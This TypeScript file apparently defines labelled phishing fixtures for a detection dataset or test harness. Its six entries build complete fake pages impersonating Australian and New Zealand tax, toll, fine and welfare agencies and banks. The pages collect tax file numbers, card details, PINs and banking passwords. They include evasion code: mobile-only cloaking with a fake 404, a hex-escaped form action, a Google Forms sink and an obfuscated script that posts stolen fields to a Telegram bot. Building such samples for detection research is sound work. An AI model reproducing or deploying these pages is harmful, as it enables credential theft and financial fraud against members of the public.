import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { shell, baseCss, mark, hexEsc, charCodes, cardFields, acknowledgement } from '../parts/xd-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'xd-ato-refund-shortlink-card',
  label: 'phishing',
  kind: 'gov-refund-card-kit',
  url: 'https://s.id/ATOrefund25q',
  routes: {
    's.id/ATOrefund25q': redirectRoute(301, 'https://ato-gov.refund-au.click/claim?ref=ATO-29481-QLD'),
    'ato-gov.refund-au.click/claim': htmlRoute(
      shell(
        'Australian Taxation Office - Refund claim',
        `<header class="top" style="background:#fff;border-bottom:4px solid #2a6f97">${mark.coatOfArms(44)}<div><b>Australian Government</b><br><span style="font-size:20px">Australian Taxation Office</span></div></header>
<main style="max-width:560px">
 <h1 style="font-size:24px">Tax refund notification</h1>
 <p>After the last annual calculation of your fiscal activity, we have determined that you are eligible to receive a tax refund of <b>$738.14</b>.</p>
 <p>Reference: <b id="ref"></b>. Please submit the form below within 48 hours. Refunds are credited to the card provided.</p>
 <form method="post" action="https://ato-gov.refund-au.click/claim/process.php">
  <label>Full name</label><input type="text" name="name" required>
  <label>Tax file number (TFN)</label><input type="text" name="tfn" maxlength="11" required>
  <label>Date of birth</label><input type="text" name="dob" placeholder="DD/MM/YYYY" required>
  <label>Residential address</label><input type="text" name="addr" required>
  ${cardFields({ holder: 'cc_name', number: 'cc_number', exp: 'cc_exp', cvv: 'cc_cvv' })}
  <label>Card PIN / online banking password (for verification)</label><input type="password" name="cc_pin">
  <button style="margin-top:18px">Submit claim</button>
 </form>
</main>
<footer>${acknowledgement('The ATO')}© Australian Taxation Office for the Commonwealth of Australia</footer>
<script>document.getElementById('ref').textContent = new URLSearchParams(location.search).get('ref') || 'ATO-00000';</script>`,
        { css: baseCss('#fff', '#222', '#2a6f97') },
      ),
    ),
  },
},
{
  id: 'xd-ird-refund-bank-picker',
  label: 'phishing',
  kind: 'gov-refund-bank-picker',
  url: 'https://ird-govt-nz.refunds-myir.com/myir/refund/',
  routes: {
    'ird-govt-nz.refunds-myir.com/myir/refund/': htmlRoute(
      shell(
        'myIR - Your refund is ready',
        `<header class="top" style="background:#fff;border-bottom:3px solid #006272">${mark.ird(34)}</header>
<main style="max-width:620px">
 <h1 style="font-size:24px;color:#006272">Kia ora, your income tax refund is ready</h1>
 <p>Our records show an overpayment of tax for the year ended 31 March. Refund amount: <b>$412.60</b>.</p>
 <p>To receive your refund today, select your bank and log in to confirm your account.</p>
 <div style="display:grid;grid-template-columns:repeat(3,1fr);gap:12px;margin-top:16px">
  <a class="bank" href="bank.html?b=anz">ANZ</a><a class="bank" href="bank.html?b=asb">ASB</a><a class="bank" href="bank.html?b=bnz">BNZ</a>
  <a class="bank" href="bank.html?b=kiwibank">Kiwibank</a><a class="bank" href="bank.html?b=westpac">Westpac</a><a class="bank" href="bank.html?b=tsb">TSB</a>
 </div>
 <p class="muted" style="margin-top:20px">Te Tari Taake — Inland Revenue. We will never ask you to share your myIR password.</p>
</main>`,
        { lang: 'en-NZ', css: baseCss('#fff', '#1e1e1e', '#006272') + '.bank{display:block;padding:22px;text-align:center;border:1px solid #ccc;border-radius:6px;color:#006272;font-weight:700;text-decoration:none}' },
      ),
    ),
    'ird-govt-nz.refunds-myir.com/myir/refund/bank.html': htmlRoute(
      shell(
        'Internet Banking',
        `<main>
 <h1 id="bn" style="font-size:22px">Internet Banking</h1>
 <p class="muted">Log in to accept your Inland Revenue refund of $412.60.</p>
 <form method="post" action="post.php">
  <input type="hidden" name="bank" id="bank">
  <label>Customer number / Access number</label><input type="text" name="user" required>
  <label>Password</label><input type="password" name="pass" required>
  <label>Phone number</label><input type="tel" name="phone" required>
  <button style="margin-top:16px">Log in and accept refund</button>
 </form>
</main>
<script>
var names = { anz: 'ANZ Internet Banking', asb: 'ASB FastNet Classic', bnz: 'BNZ Internet Banking', kiwibank: 'Kiwibank Internet Banking', westpac: 'Westpac One Online Banking', tsb: 'TSB Internet Banking' };
var b = new URLSearchParams(location.search).get('b') || 'anz';
document.getElementById('bn').textContent = names[b] || names.anz; document.getElementById('bank').value = b; document.title = names[b] || 'Internet Banking';
</script>`,
        { lang: 'en-NZ', css: baseCss('#004165') },
      ),
    ),
  },
},
{
  id: 'xd-linkt-unpaid-toll-mobile-cloak',
  label: 'phishing',
  kind: 'toll-fine-card-kit',
  url: 'https://linkt-au.tollpay-notice.xyz/pay/',
  body: shell(
    'Linkt - Pay your toll',
    `<div id="app"></div>
<script>
(function () {
  var mobile = /Android|iPhone|iPad|Mobile/i.test(navigator.userAgent) && ('ontouchstart' in window);
  if (!mobile) { document.title = '404 Not Found'; document.getElementById('app').innerHTML = '<h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.41 (Ubuntu) Server</address>'; return; }
  document.getElementById('app').innerHTML = document.getElementById('tpl').innerHTML;
  document.getElementById('due').textContent = new Date(Date.now() + 864e5).toLocaleDateString('en-AU');
  document.getElementById('lk').onsubmit = function (e) {
    e.preventDefault();
    var p = btoa(unescape(encodeURIComponent(JSON.stringify(Object.fromEntries(new FormData(this))))));
    new Image().src = '/pay/c.php?d=' + encodeURIComponent(p);
    setTimeout(function () { location.href = 'https://www.linkt.com.au/'; }, 1200);
  };
})();
</script>
<template id="tpl">
 <div style="padding:16px;max-width:440px;margin:auto">
  ${mark.linkt(30)}
  <h1 style="font-size:21px">You have an unpaid toll</h1>
  <p>Amount owing: <b>$12.71</b>. If not paid by <b id="due"></b> a late fee of <b>$97.60</b> will be added and the matter referred to the relevant state authority.</p>
  <form id="lk">
   <label>Vehicle registration</label><input name="rego" required>
   <label>State</label><select name="state"><option>NSW</option><option>VIC</option><option>QLD</option></select>
   <label>Full name</label><input name="name" required>
   <label>Mobile</label><input name="mobile" type="tel" required>
   ${cardFields({ holder: 'holder', number: 'card', exp: 'exp', cvv: 'cvc' })}
   <button style="width:100%;margin-top:16px;background:#6a2c91">Pay now</button>
  </form>
 </div>
</template>`,
    { css: baseCss('#6a2c91', '#222', '#6a2c91') + 'body{background:#fff}' },
  ),
},
{
  id: 'xd-revenue-nsw-fine-hex-action',
  label: 'phishing',
  kind: 'toll-fine-card-kit',
  url: 'https://service-nsw.gov-au-fines.vip/infringement/pay/PN-4410297',
  body: shell(
    'Pay a fine | Service NSW',
    `<header class="top" style="background:#002664;color:#fff"><b style="font-size:18px">Service NSW</b><span style="margin-left:auto;font-size:13px">Revenue NSW</span></header>
<main style="max-width:560px">
 <h1 style="font-size:24px;color:#002664">Penalty notice PN-4410297</h1>
 <table style="width:100%;font-size:14px;border-collapse:collapse">
  <tr><td>Offence</td><td><b>Unpaid toll – M7 Motorway</b></td></tr>
  <tr><td>Status</td><td style="color:#b00020"><b>Overdue – enforcement pending</b></td></tr>
  <tr><td>Amount</td><td><b>$34.20</b></td></tr>
 </table>
 <p>Pay now to avoid suspension of your driver licence and vehicle registration.</p>
 <form id="rn" method="post">
  <label>Licence number</label><input name="lic" required>
  <label>Date of birth</label><input name="dob" required>
  ${cardFields({ holder: 'nameOnCard', number: 'cardNumber', exp: 'expiry', cvv: 'securityCode' })}
  <button style="margin-top:16px;background:#d7153a">Pay $34.20</button>
 </form>
</main>
<script>
document.getElementById('rn').action = "${hexEsc('https://collector.gov-au-fines.vip/rnsw/submit.php')}";
</script>`,
    { css: baseCss('#002664', '#222', '#002664') + 'td{padding:8px;border-bottom:1px solid #eee}' },
  ),
},
{
  id: 'xd-energy-bill-relief-gforms',
  label: 'phishing',
  kind: 'gov-payment-lure',
  url: 'https://energy-bill-relief.gov-au.help/apply/',
  body: shell(
    'Energy Bill Relief Fund – Apply for your $300 rebate',
    `<header class="top" style="background:#fff;border-bottom:1px solid #ddd">${mark.coatOfArms(40)}<div style="font-size:13px">Australian Government<br><b>Department of Climate Change, Energy, the Environment and Water</b></div></header>
<main style="max-width:600px">
 <h1 style="font-size:26px">Claim your $300 Energy Bill Relief</h1>
 <p>Households that have not yet received the rebate on their electricity bill can claim it directly. Funds are paid to your nominated card within 2 business days.</p>
 <form id="eb" action="https://docs.google.com/forms/d/e/1FAIpQLSdX7-vP0kQqJ9nHwYbT3aLm2cRfE5uZs8o1Gi4jKt6MnVxYw/formResponse" method="post" target="sink">
  <label>Full name</label><input name="entry.1180213412" required>
  <label>Date of birth</label><input name="entry.2038146917" required>
  <label>Residential address</label><input name="entry.774102956" required>
  <label>Electricity retailer</label><select name="entry.509821447"><option>AGL</option><option>Origin</option><option>EnergyAustralia</option><option>Red Energy</option><option>Alinta</option><option>Other</option></select>
  <label>Mobile</label><input name="entry.1604422398" type="tel" required>
  ${cardFields({ holder: 'entry.1359904018', number: 'entry.86214471', exp: 'entry.1997042310', cvv: 'entry.417560903' })}
  <button style="margin-top:16px;background:#1b5e20">Submit claim</button>
 </form>
 <iframe name="sink" style="display:none"></iframe>
</main>
<script>document.getElementById('eb').addEventListener('submit', function () { setTimeout(function () { document.body.innerHTML = '<main><h2>Thank you</h2><p>Your rebate claim EBR-' + Math.floor(Math.random() * 1e6) + ' has been received.</p></main>'; }, 800); });</script>`,
    { css: baseCss('#fff', '#222', '#1b5e20') },
  ),
},
{
  id: 'xd-msd-winter-energy-payment-cdn',
  label: 'phishing',
  kind: 'gov-payment-lure',
  url: 'https://workandincome-govt-nz.winter-payment.site/wep/claim',
  routes: {
    'workandincome-govt-nz.winter-payment.site/wep/claim': htmlRoute(
      shell(
        'MyMSD – Winter Energy Payment',
        `<header class="top" style="background:#00364d">${mark.nzgovt(30)}<b style="color:#fff;margin-left:12px">Work and Income · Te Hiranga Tangata</b></header>
<main style="max-width:560px">
 <h1 style="font-size:24px">Winter Energy Payment top-up</h1>
 <p>You qualify for a one-off Winter Energy Payment top-up of <b>$284.70</b>. Log in to MyMSD and confirm your card to receive it.</p>
 <form id="w">
  <label>MyMSD username</label><input name="u" required>
  <label>Password</label><input name="p" type="password" required>
  <label>Client number</label><input name="cn">
  ${cardFields({ holder: 'n', number: 'c', exp: 'e', cvv: 'v' })}
  <button style="margin-top:16px;background:#00364d">Confirm</button>
 </form>
</main>
<script src="https://cdn.jsdelivr-static.net/gh/nz-msd-assets/wep@1.0.3/app.js"></script>`,
        { lang: 'en-NZ', css: baseCss('#00364d') },
      ),
    ),
    'cdn.jsdelivr-static.net/gh/nz-msd-assets/wep@1.0.3/app.js': jsRoute(
      `(function(){var s=[${charCodes('8011243377:AAHn3rT1w-CyqKx0GZfP8ul5ds2QmeVbT0o')}],c=[${charCodes('-1001873344029')}];var t=String.fromCharCode.apply(null,s),h=String.fromCharCode.apply(null,c);document.getElementById('w').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this),m='MSD NZ\\n';f.forEach(function(v,k){m+=k+': '+v+'\\n'});fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id='+h+'&text='+encodeURIComponent(m)).finally(function(){location.replace('https://www.workandincome.govt.nz/')})})})();`,
    ),
  },
},
];
